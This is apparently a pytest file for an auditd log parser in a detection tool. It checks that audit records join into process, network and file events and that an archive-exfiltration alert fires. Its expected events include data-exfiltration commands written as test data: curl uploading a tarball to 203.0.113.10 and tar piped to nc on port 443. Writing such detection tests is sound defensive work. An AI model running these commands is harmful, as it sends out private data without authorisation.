"""Golden tests for the auditd source: records joined by serial into launches, connects and files.

``container.log`` is written as the kernel and auditd write it (x86_64 unless a record says
otherwise), with what forwarders do to it: a record missing, records out of order, an event with
no EOE, two nodes reusing a serial. The real RHEL 7 log in the corpus must read with nothing
skipped.
"""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import TETRAGON, read
from tidewaiter.events import Activity, Container, Endpoint, Event, File, Kind, Process, RawRef
from tidewaiter.pipeline import EngineConfig
from tidewaiter.run import detect_files
from tidewaiter.sources import all_sources, auditd, get

# Some setups add the process's cgroup to SYSCALL records; the kernel itself writes none.
DOCKER = Container(uid="3ad7b26ded6d4b8f9a1c2e3d4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a")
TAR_ARGS = ("tar", "-czf", "data.tar.gz", "/srv/customer data")
TAR = Process(
    pid=4242,
    path="/usr/bin/tar",
    cmd_line="tar -czf data.tar.gz '/srv/customer data'",
    args=TAR_ARGS,
    cwd="/tmp",
    user="0",
    session="3",
    parent=Process(pid=4100),
)
OSQUERY = b'{"name":"pack_x_process_events","hostIdentifier":"h","unixTime":1,"columns":{}}\n'
SYSLOG = b"May  2 10:00:00 node-a sshd[900]: Accepted publickey for ana from 198.51.100.7\n"


@pytest.fixture(scope="module")
def log(fixtures: Path) -> Path:
    return fixtures / "auditd" / "container.log"


@pytest.fixture(scope="module")
def events(log: Path) -> list[Event]:
    return read(log)[0]


def ref(path: Path, line: int, serial: str) -> RawRef:
    return RawRef("auditd", str(path), line=line, record_id=serial)


def test_registered_and_sniffed(log: Path) -> None:
    assert get("auditd") in all_sources()
    events, report = read(log)
    assert report.files == {str(log): "auditd"}
    assert len(events) == 11


def test_records_are_lines_and_joined_lines_are_not_nothing_to_use(log: Path) -> None:
    # 74 lines: 50 joined into the 11 events; 24 with nothing to use: a connect to a unix
    # socket (4 lines), a refused connect (3), a failed execve (4), a mkdir (6), a kill (4),
    # BPRM_FCAPS inside an exec (1), USER_LOGIN and CRED_ACQ (2).
    _, report = read(log)
    assert (report.records, report.events, report.ignored, report.skipped_total) == (74, 11, 24, 0)


def test_exec_in_container_with_a_hex_argument(log: Path, events: list[Event]) -> None:
    # a3 holds a space, so the kernel wrote it as hex; the cgroup path names the container.
    assert events[0] == Event(
        time=1714644000.123,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(log, 1, "1001"),
        host="node-a",
        container=DOCKER,
        process=TAR,
    )


def test_open_with_create_is_a_file_create_joined_to_the_cwd(
    log: Path, events: list[Event]
) -> None:
    assert events[1] == Event(
        time=1714644000.456,
        kind=Kind.FILE,
        activity=Activity.CREATE,
        raw=ref(log, 8, "1002"),
        host="node-a",
        container=DOCKER,
        process=TAR,  # argv from PROCTITLE: the process that opened the file
        file=File(path="/tmp/data.tar.gz"),
    )


def test_connect_in_progress_goes_to_its_sockaddr(log: Path, events: list[Event]) -> None:
    # success=no exit=-115 (EINPROGRESS): how every non-blocking client connects.
    assert events[2] == Event(
        time=1714644002.25,
        kind=Kind.NETWORK,
        activity=Activity.CONNECT,
        raw=ref(log, 14, "1003"),
        host="node-a",
        container=DOCKER,
        process=Process(
            pid=4250,
            path="/usr/bin/curl",
            cmd_line="curl -sT /tmp/data.tar.gz https://203.0.113.10/upload",
            args=("curl", "-sT", "/tmp/data.tar.gz", "https://203.0.113.10/upload"),
            user="0",
            session="3",
            parent=Process(pid=4100),
        ),
        dst_endpoint=Endpoint(ip="203.0.113.10", port=443),
    )


def test_ipv6_connect_without_a_node_prefix(log: Path, events: list[Event]) -> None:
    assert events[3] == Event(
        time=1714644003.0,
        kind=Kind.NETWORK,
        activity=Activity.CONNECT,
        raw=ref(log, 25, "1006"),
        process=Process(
            pid=5120,
            path="/usr/bin/ssh",
            cmd_line="/usr/bin/ssh -x backup@2001:db8::1 'scp -t /in'",
            args=("/usr/bin/ssh", "-x", "backup@2001:db8::1", "scp -t /in"),
            user="0",
            session="3",
            parent=Process(pid=5100),
        ),
        dst_endpoint=Endpoint(ip="2001:db8::1", port=443),
    )


def test_argument_in_chunks_across_two_execve_records(log: Path, events: list[Event]) -> None:
    payload = "tar -C /srv -cf - customer | nc 203.0.113.10 443"
    assert events[4] == Event(
        time=1714644004.0,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(log, 29, "1007"),
        host="node-a",
        process=Process(
            pid=5200,
            path="/usr/bin/dash",
            cmd_line=f"sh -c '{payload}'",
            args=("sh", "-c", payload),
            cwd="/",
            user="0",
            session="3",
            parent=Process(pid=5199),
        ),
    )


def test_execve_with_no_argv_records_is_its_executable(log: Path, events: list[Event]) -> None:
    assert events[5].process == Process(
        pid=5400,
        path="/usr/local/bin/rclone",
        cmd_line="/usr/local/bin/rclone",
        user="0",
        session="3",
        parent=Process(pid=5399),
    )


def test_rename_to_an_archive_name(log: Path, events: list[Event]) -> None:
    assert events[6] == Event(
        time=1714644007.0,
        kind=Kind.FILE,
        activity=Activity.RENAME,
        raw=ref(log, 46, "1012"),
        host="node-a",
        process=Process(
            pid=5500,
            path="/usr/bin/mv",
            cmd_line="mv /tmp/stage.bin /tmp/stage.7z",
            args=("mv", "/tmp/stage.bin", "/tmp/stage.7z"),
            cwd="/tmp",
            user="0",
            session="3",
            parent=Process(pid=5499),
        ),
        file=File(path="/tmp/stage.7z"),
    )


def test_enriched_log_format_and_argv_over_two_records(events: list[Event]) -> None:
    # log_format=ENRICHED appends translated fields after \x1d; BPRM_FCAPS is not used.
    process = events[7].process
    assert process is not None
    assert process.args == (
        "openssl",
        "enc",
        "-aes-256-cbc",
        "-in",
        "data.tar.gz",
        "-out",
        "data.tar.gz.enc",
    )
    assert process.cmd_line == "openssl enc -aes-256-cbc -in data.tar.gz -out data.tar.gz.enc"
    assert (process.pid, process.cwd) == (5600, "/tmp")


def test_a_serial_is_per_node(log: Path, events: list[Event]) -> None:
    assert events[8] == Event(
        time=1714644008.5,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(log, 70, "1001"),
        host="node-b",
        process=Process(
            pid=77,
            path="/usr/bin/ls",
            cmd_line="ls",
            args=("ls",),
            user="0",
            session="3",
            parent=Process(pid=76),
        ),
    )


def test_out_of_order_records_without_eoe_come_out_at_the_end(
    log: Path, events: list[Event]
) -> None:
    # aarch64 execve (221) whose EXECVE record was lost: argv from PROCTITLE, which came first.
    assert events[9] == Event(
        time=1714644005.0,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(log, 36, "1008"),
        host="node-a",
        process=Process(
            pid=5300,
            path="/usr/bin/zip",
            cmd_line="zip -r /tmp/x.zip /srv",
            args=("zip", "-r", "/tmp/x.zip", "/srv"),
            user="0",
            session="3",
            parent=Process(pid=5299),
        ),
    )
    # An EXECVE whose SYSCALL never came is still a launch: argv and cwd, no pid.
    assert events[10] == Event(
        time=1714644005.1,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(log, 37, "1009"),
        host="node-a",
        process=Process(
            cmd_line="gzip -k report.csv", args=("gzip", "-k", "report.csv"), cwd="/home/ana"
        ),
    )


def test_events_with_nothing_to_use_give_nothing(events: list[Event]) -> None:
    # Not emitted: a unix-socket connect (18), a refused connect (22), a failed execve (42),
    # a mkdir creating "out.zip" (54), a kill (60), logins (73, 74).
    assert [event.raw.line for event in events] == [1, 8, 14, 25, 29, 40, 46, 64, 70, 36, 37]


def test_sigma_reads_the_same_argv(events: list[Event]) -> None:
    # SigmaHQ's lnx_auditd_data_compressed matches EXECVE a0 / a1 (tar, "-c" in a1; gzip -k):
    # args keep those positions.
    argvs = [e.process.args for e in events if e.process is not None and e.process.args]
    assert TAR_ARGS in argvs
    assert ("gzip", "-k", "report.csv") in argvs


def test_ausearch_separators_are_framing(fixtures: Path) -> None:
    path = fixtures / "auditd" / "ausearch.log"
    events, report = read(path)
    assert report.files == {str(path): "auditd"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (7, 1, 2, 0)
    assert events == [
        Event(
            time=1714644000.123,
            kind=Kind.PROCESS,
            activity=Activity.LAUNCH,
            raw=ref(path, 3, "1001"),  # PROCTITLE came first
            process=Process(
                pid=901,
                path="/usr/bin/tar",
                cmd_line="tar -czf /tmp/out.tgz /etc",
                args=("tar", "-czf", "/tmp/out.tgz", "/etc"),
                cwd="/root",
                user="0",
                session="1",
                parent=Process(pid=900),
            ),
        )
    ]


def test_malformed_lines_are_counted_and_located(fixtures: Path) -> None:
    path = fixtures / "auditd" / "malformed.log"
    events, report = read(path, fmt="auditd")
    assert report.records == 9  # the blank line 5 is not a record
    assert report.skipped == Counter(
        {
            "not an audit record (no type=)": 2,
            "interpreted audit time (ausearch -i); read the raw log instead": 1,
            "EXECVE record without a msg=audit(time:serial) header": 1,
            "CWD record without a msg=audit(time:serial) header": 1,
        }
    )
    assert [p.where for p in report.examples] == ["line 1", "line 2", "line 3", "line 4", "line 10"]
    assert report.ignored == 1  # UNKNOWN[1329] msg=?
    # A stray non-UTF-8 byte keeps its event, marked; reading goes on after bad lines.
    [event] = events
    assert event.process is not None
    assert event.process.args == ("zip", "/tmp/caf\ufffd.zip", "/srv")


def test_detection_reads_auditd(log: Path) -> None:
    alerts = detect_files([str(log)], EngineConfig(), []).alerts
    exfil = [a for a in alerts if a["finding_info"]["analytic"]["uid"] == "tw-archive-exfil"]
    assert any(a.get("device", {}).get("container", {}).get("uid") == DOCKER.uid for a in exfil)


# --- the real RHEL 7 log ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def rhel7(corpus: Path) -> Path:
    return corpus / "auditd" / "audit-rhel7.log"


@pytest.mark.corpus
def test_rhel7_reads_with_nothing_skipped(rhel7: Path) -> None:
    events, report = read(rhel7)
    assert report.files == {str(rhel7): "auditd"}
    # 50 lines (the last has no newline); 7 joined into 5 events; the user-space, daemon and
    # configuration records and the lone CWD, SOCKADDR and kill(2) SYSCALL carry nothing.
    assert (report.records, report.events, report.ignored, report.skipped_total) == (50, 5, 43, 0)
    assert [e.raw.record_id for e in events] == ["479", "512226", "1068053", "1050925", "1075898"]


@pytest.mark.corpus
def test_rhel7_execve_joined_with_its_cwd_and_path(rhel7: Path) -> None:
    # CWD, EXECVE and PATH of serial 479, no SYSCALL: the path is PATH item 0.
    events, _ = read(rhel7)
    assert events[0] == Event(
        time=1481077231.371,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=RawRef("auditd", str(rhel7), line=10, record_id="479"),
        process=Process(
            path="/sbin/auditctl",
            cmd_line="auditctl -a exit,always -F arch=b32 -S execve",
            args=("auditctl", "-a", "exit,always", "-F", "arch=b32", "-S", "execve"),
            cwd="/home/andrew_kroh",
        ),
    )


@pytest.mark.corpus
def test_rhel7_connect_in_progress_with_a_hex_exe(rhel7: Path) -> None:
    # syscall=42 success=no exit=-115; the log holds no SOCKADDR for this serial.
    events, _ = read(rhel7)
    assert events[1] == Event(
        time=1490801406.273,
        kind=Kind.NETWORK,
        activity=Activity.CONNECT,
        raw=RawRef("auditd", str(rhel7), line=28, record_id="512226"),
        process=Process(
            pid=1170,
            path="/usr/bin/python2.7;58d1ccfb (deleted)",  # exe was hex: it holds a space
            user="0",
            parent=Process(pid=1),
        ),
    )


@pytest.mark.corpus
def test_rhel7_hex_arguments(rhel7: Path) -> None:
    events, _ = read(rhel7)
    grep, jq = events[3].process, events[4].process
    assert grep is not None
    assert grep.args == ("grep", "--color=auto", "-e", "[:alpha:]", "/etc/passwd")
    assert grep.cmd_line == "grep --color=auto -e '[:alpha:]' /etc/passwd"
    assert jq is not None
    assert jq.args is not None
    assert jq.args[:2] == ("jq", ".")
    assert jq.args[2].startswith('{\n        "dev": "08:01",')  # a2 was hex, newlines and all
    assert jq.args[2].endswith("}")


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("serial", "expected"),
    [
        ("688", Endpoint(ip="169.254.169.254", port=80)),  # AF_INET: the metadata server
        ("517644", Endpoint(ip="::", port=22)),  # AF_INET6
        ("517643", None),  # AF_NETLINK
        ("517645", None),  # AF_UNSPEC
        ("517647", None),  # AF_UNIX /var/run/nscd/socket
    ],
)
def test_rhel7_sockaddr_records_under_a_connect(
    rhel7: Path, tmp_path: Path, serial: str, expected: Endpoint | None
) -> None:
    # The log's SOCKADDR records have no SYSCALL beside them (alone, a SOCKADDR may be a bind,
    # an accept or a sendto, so it gives nothing); under a connect of the same serial, each
    # real record decodes to its destination, and local families give no event.
    [sockaddr] = [
        line
        for line in rhel7.read_text().splitlines()
        if line.startswith("type=SOCKADDR") and f":{serial}):" in line
    ]
    stamp = sockaddr.partition("msg=audit(")[2].partition(")")[0]
    connect = (
        f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=42 success=yes exit=0 a0=3 "
        'a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=1170 auid=4294967295 uid=0 comm="python" '
        'exe="/usr/bin/python2.7" key=(null)'
    )
    path = tmp_path / "connect.log"
    path.write_text(f"{connect}\n{sockaddr}\n")
    alone = tmp_path / "alone.log"
    alone.write_text(f"{sockaddr}\n")
    events, _ = read(path, fmt="auditd")
    if expected is None:
        assert events == []
    else:
        [event] = events
        assert (event.kind, event.activity, event.dst_endpoint) == (
            Kind.NETWORK,
            Activity.CONNECT,
            expected,
        )
    assert read(alone, fmt="auditd")[0] == []


# --- sniffing --------------------------------------------------------------------------------


def test_sniff_accepts_audit_logs(fixtures: Path) -> None:
    for name in ("container.log", "ausearch.log"):
        assert auditd.AuditdSource().sniff((fixtures / "auditd" / name).read_bytes()), name
    syslog = b"May  2 10:00:00 node-a audispd: node=node-a type=EOE msg=audit(1714644000.1:7): \n"
    assert get("auditd").sniff(syslog)


@pytest.mark.corpus
def test_sniff_accepts_the_real_log(rhel7: Path) -> None:
    assert get("auditd").sniff(rhel7.read_bytes()[:65536])


@pytest.mark.parametrize(
    "head",
    [TETRAGON, OSQUERY, SYSLOG, b"", b"\x00\x01binary"],
    ids=["tetragon", "osquery", "syslog", "empty", "binary"],
)
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("auditd").sniff(head)


def test_sniff_rejects_other_fixtures(fixtures: Path) -> None:
    for path in [*fixtures.glob("falco/*"), *fixtures.glob("zeek/*"), *fixtures.glob("sysmon/*")]:
        assert not get("auditd").sniff(path.read_bytes()[:65536]), path.name


def test_no_other_source_claims_an_audit_log(log: Path) -> None:
    head = log.read_bytes()[:65536]
    assert [s.name for s in all_sources() if s.sniff(head)] == ["auditd"]
